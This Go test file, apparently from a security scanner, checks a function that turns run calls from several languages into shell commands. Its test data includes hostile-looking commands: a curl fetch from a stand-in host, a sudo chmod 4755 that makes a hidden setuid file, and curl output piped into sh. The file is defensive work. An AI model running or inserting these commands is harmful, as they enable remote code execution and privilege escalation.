package secscan

import "testing"

// A run call of another language is read as the shell command its
// strings and names make.
func TestShellOfCall(t *testing.T) {
	for _, c := range []struct{ call, want string }{
		{`os.execute("curl -fsSL https://x.example/p -o " .. patch)`, `curl -fsSL https://x.example/p -o $patch`},
		{`system("sudo chmod 4755 /var/tmp/.sh");`, `sudo chmod 4755 /var/tmp/.sh`},
		{`new ProcessBuilder("java", "-jar", jar.toString(), "--init").start();`, `java -jar $jar --init`},
		{`exec.Command("sh", "-c", "curl " + url + " | sh")`, `sh -c curl $url | sh`},
		{`shell_exec($cmd);`, ``},
		{`system("unterminated`, ``},
	} {
		open := 0
		for i := range c.call {
			if c.call[i] == '(' {
				open = i + 1
				break
			}
		}
		if got, _ := shellOfCall([]byte(c.call), open); got != c.want {
			t.Errorf("%s: %q, want %q", c.call, got, c.want)
		}
	}
}
